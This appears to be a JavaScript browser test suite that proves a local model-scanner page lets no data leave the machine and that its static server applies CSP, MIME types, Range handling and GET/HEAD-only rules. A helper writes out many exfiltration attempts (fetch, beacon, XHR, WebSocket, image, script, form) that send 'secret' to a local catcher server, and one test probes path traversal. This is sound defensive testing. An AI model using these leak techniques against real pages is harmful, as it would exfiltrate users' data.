// "Nothing leaves the machine", proved in the browser: the CSP is in force (header and meta tag,
// page and workers), every way of sending data to another origin is refused before a request
// is made, and a scan requests nothing but the page's own assets, none with a body.
// Also the static server's contract: CSP on every response, MIME types, Range, GET/HEAD only.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { FIXTURES, WEB, assertOnlyOwnAssets, launch, recordRequests, requireBuiltPage, startServer, waitForScans } from './helpers.mjs';
import { CSP } from '../serve.mjs';

/** A server on another port that counts every request reaching it: the "elsewhere". */
let catcher;
let catcherUrl;
const caught = [];
let browser;

before(async () => {
  requireBuiltPage();
  catcher = createServer((req, res) => {
    caught.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*' });
    res.end('caught');
  });
  catcher.on('upgrade', (req, socket) => {
    caught.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise((ok) => catcher.listen(0, '127.0.0.1', ok));
  catcherUrl = `http://127.0.0.1:${catcher.address().port}/`;
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await new Promise((ok) => catcher?.close(ok));
});

const SCAN_FILES = [
  join(FIXTURES, 'pickle/malicious/global_os_system_p0.pkl'),
  join(FIXTURES, 'tensorflow/malicious/module_read_file.zip'),
  join(FIXTURES, 'onnx/benign/add.onnx'),
];

/**
 * Tries every way a script could send data to `target` and reports what happened to each.
 * Runs in the page (or, for the fetch-only subset, in a worker).
 */
async function tryToLeak(target) {
  const results = {};
  const attempt = async (name, fn) => {
    try {
      results[name] = await fn();
    } catch (e) {
      results[name] = `blocked: ${e.name}`;
    }
  };
  await attempt('fetch', async () => (await fetch(`${target}fetch`, { method: 'POST', body: 'secret', mode: 'no-cors' })).type);
  await attempt('beacon', async () => String(navigator.sendBeacon(`${target}beacon`, 'secret')));
  await attempt('xhr', () => new Promise((ok, fail) => {
    const x = new XMLHttpRequest();
    x.open('POST', `${target}xhr`);
    x.onload = () => ok('loaded');
    x.onerror = () => fail(new DOMException('xhr error', 'NetworkError'));
    x.send('secret');
  }));
  await attempt('websocket', () => new Promise((ok, fail) => {
    const ws = new WebSocket(target.replace('http:', 'ws:') + 'ws');
    ws.onopen = () => ok('open');
    ws.onerror = () => fail(new DOMException('ws error', 'NetworkError'));
  }));
  await attempt('image', () => new Promise((ok, fail) => {
    const img = new Image();
    img.onload = () => ok('loaded');
    img.onerror = () => fail(new DOMException('img error', 'NetworkError'));
    img.src = `${target}image?secret`;
  }));
  await attempt('script', () => new Promise((ok, fail) => {
    const s = document.createElement('script');
    s.src = `${target}script?secret`;
    s.onload = () => ok('loaded');
    s.onerror = () => fail(new DOMException('script error', 'NetworkError'));
    document.head.append(s);
  }));
  await attempt('stylesheet', () => new Promise((ok, fail) => {
    const l = document.createElement('link');
    l.rel = 'stylesheet';
    l.href = `${target}style?secret`;
    l.onload = () => ok('loaded');
    l.onerror = () => fail(new DOMException('style error', 'NetworkError'));
    document.head.append(l);
  }));
  await attempt('iframe', () => new Promise((ok) => {
    const f = document.createElement('iframe');
    f.src = `${target}frame?secret`;
    document.body.append(f);
    setTimeout(() => ok('appended'), 500);
  }));
  await attempt('form', () => new Promise((ok) => {
    const form = document.createElement('form');
    form.method = 'POST';
    form.action = `${target}form`;
    form.target = '_blank';
    document.body.append(form);
    form.submit();
    setTimeout(() => ok('submitted'), 500);
  }));
  await attempt('inline-script', async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true';
    document.head.append(s);
    return window.__inlineRan ? 'ran' : 'did not run';
  });
  return results;
}

/** Collects the page's securitypolicyviolation events. */
function watchViolations(page) {
  return page.evaluate(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }),
    );
  });
}

for (const mode of ['header and meta tag', 'meta tag only']) {
  test(`the CSP (${mode}) blocks every way out, in the page and in its workers`, async () => {
    // `--no-csp` plays a static host that sends no headers: the meta tag must hold alone.
    const server = await startServer(mode === 'meta tag only' ? ['--no-csp'] : []);
    const context = await browser.newContext();
    const requests = recordRequests(context);
    const page = await context.newPage();
    try {
      const response = await page.goto(server.url);
      const header = response.headers()['content-security-policy'];
      if (mode === 'meta tag only') assert.equal(header, undefined);
      else assert.equal(header, CSP);
      // the page says so, plainly and before anything else can be done
      assert.match(await page.textContent('#privacy'), /^Nothing leaves your machine\./);
      assert.ok(await page.isVisible('#privacy'));
      await watchViolations(page);

      // a scan first, so the workers exist
      await page.setInputFiles('#file-input', SCAN_FILES);
      await waitForScans(page);
      const before = caught.length;

      const results = await page.evaluate(tryToLeak, catcherUrl);
      for (const [name, outcome] of Object.entries(results)) {
        // sendBeacon only queues (it says true); the policy drops the request later, which the
        // catcher and the violation events below show
        if (name === 'beacon') continue;
        else if (name === 'inline-script') assert.equal(outcome, 'did not run');
        else if (name === 'iframe' || name === 'form') continue; // checked by the catcher
        else assert.match(outcome, /^blocked/, `${name}: ${outcome}`);
      }
      const violations = await page.evaluate(() => window.__violations);
      const directives = new Set(violations.map((v) => v.directive));
      for (const d of ['connect-src', 'img-src', 'script-src-elem', 'style-src-elem', 'frame-src', 'form-action']) {
        assert.ok(directives.has(d), `a ${d} violation was reported (${[...directives].join(', ')})`);
      }
      assert.ok(violations.some((v) => v.blocked.startsWith(catcherUrl.slice(0, -1))));

      // the workers are bound by the same policy (a blob: worker inherits the page's, meta included)
      const workers = page.workers();
      assert.ok(workers.length >= 1, 'the scan ran in a worker');
      for (const worker of workers) {
        const outcome = await worker.evaluate(async (target) => {
          try {
            await fetch(`${target}from-worker`, { method: 'POST', body: 'secret', mode: 'no-cors' });
            return 'sent';
          } catch (e) {
            return `blocked: ${e.name}`;
          }
        }, catcherUrl);
        assert.match(outcome, /^blocked/);
      }

      await page.waitForTimeout(300);
      assert.deepEqual(caught.slice(before), [], 'no request reached the other server');
      // the browser saw the attempts and refused each one itself
      const attempts = requests.filter((r) => r.url.startsWith(catcherUrl));
      for (const r of attempts) assert.match(r.failure ?? '', /csp|blocked/i, `${r.type} ${r.url}: ${r.failure}`);
      assertOnlyOwnAssets(assert, requests.filter((r) => !r.url.startsWith(catcherUrl)), server.origin);
      for (const entry of server.log) {
        assert.ok(entry.method === 'GET' || entry.method === 'HEAD', `${entry.method} ${entry.path}`);
        assert.equal(entry.bodyBytes, 0);
      }
    } finally {
      await context.close();
      await server.stop();
    }
  });
}

test('a scan requests only page assets: nothing with a body, nothing about the files', async () => {
  const server = await startServer();
  const context = await browser.newContext();
  const requests = recordRequests(context);
  const page = await context.newPage();
  try {
    await page.goto(server.url, { waitUntil: 'networkidle' });
    const atLoad = requests.length;
    const served = server.log.length;
    await page.setInputFiles('#file-input', SCAN_FILES);
    await waitForScans(page);
    const during = requests.slice(atLoad);
    assertOnlyOwnAssets(assert, requests, server.origin);
    // what a scan adds: the worker, the package and its .wasm, each a GET of a static file
    const paths = new Set(during.filter((r) => !r.url.startsWith('blob:')).map((r) => new URL(r.url).pathname));
    for (const p of paths) {
      assert.match(p, /^\/(scan-worker\.js|vendor\/modelsieve\/(index\.js|pkg\/modelsieve_wasm(\.js|_bg\.wasm)))$/, p);
    }
    assert.ok(paths.has('/vendor/modelsieve/pkg/modelsieve_wasm_bg.wasm'), 'the .wasm request was recorded (workers included)');
    // no file name, content or report went anywhere: the server saw only those paths
    const names = SCAN_FILES.map((f) => f.split('/').pop());
    for (const entry of server.log.slice(served)) {
      assert.equal(entry.bodyBytes, 0);
      for (const n of names) assert.ok(!entry.path.includes(n));
    }
    // a second scan needs nothing new at all
    const second = requests.length;
    await page.setInputFiles('#file-input', SCAN_FILES);
    await waitForScans(page);
    assert.deepEqual(requests.slice(second).filter((r) => !r.url.startsWith('blob:')), []);
  } finally {
    await context.close();
    await server.stop();
  }
});

test('serve.mjs: CSP on every response, MIME types, Range, GET and HEAD only', async () => {
  const server = await startServer();
  try {
    const get = (path, headers = {}, method = 'GET') => fetch(new URL(path, server.url), { headers, method });
    for (const path of ['/', '/app.js', '/style.css', '/vendor/modelsieve/pkg/modelsieve_wasm_bg.wasm', '/missing']) {
      const r = await get(path);
      assert.equal(r.headers.get('content-security-policy'), CSP, path);
      assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
      assert.equal(r.headers.get('referrer-policy'), 'no-referrer');
      await r.arrayBuffer();
    }
    assert.equal((await get('/')).headers.get('content-type'), 'text/html; charset=utf-8');
    assert.equal((await get('/app.js')).headers.get('content-type'), 'text/javascript; charset=utf-8');
    assert.equal((await get('/vendor/modelsieve/pkg/modelsieve_wasm_bg.wasm')).headers.get('content-type'), 'application/wasm');
    assert.equal((await get('/missing')).status, 404);
    assert.equal((await get('/../serve.mjs')).status, 200, 'URL normalisation keeps it inside the root');
    assert.equal((await get('/%2e%2e/package.json')).status, 404, 'no way out of the root');

    const html = readFileSync(join(WEB, 'index.html'));
    const part = await get('/index.html', { Range: 'bytes=10-19' });
    assert.equal(part.status, 206);
    assert.equal(part.headers.get('content-range'), `bytes 10-19/${html.length}`);
    assert.deepEqual(Buffer.from(await part.arrayBuffer()), html.subarray(10, 20));
    const tail = await get('/index.html', { Range: 'bytes=-5' });
    assert.deepEqual(Buffer.from(await tail.arrayBuffer()), html.subarray(html.length - 5));
    const past = await get('/index.html', { Range: `bytes=${html.length}-` });
    assert.equal(past.status, 416);
    assert.equal(past.headers.get('content-range'), `bytes */${html.length}`);
    const multi = await get('/index.html', { Range: 'bytes=0-1,5-6' });
    assert.equal(multi.status, 200, 'several ranges: the whole file');
    await multi.arrayBuffer();

    const post = await fetch(server.url, { method: 'POST', body: 'secret' });
    assert.equal(post.status, 405);
    assert.equal(post.headers.get('allow'), 'GET, HEAD');
    const head = await get('/index.html', {}, 'HEAD');
    assert.equal(head.status, 200);
    assert.equal(Number(head.headers.get('content-length')), html.length);
  } finally {
    await server.stop();
  }
});
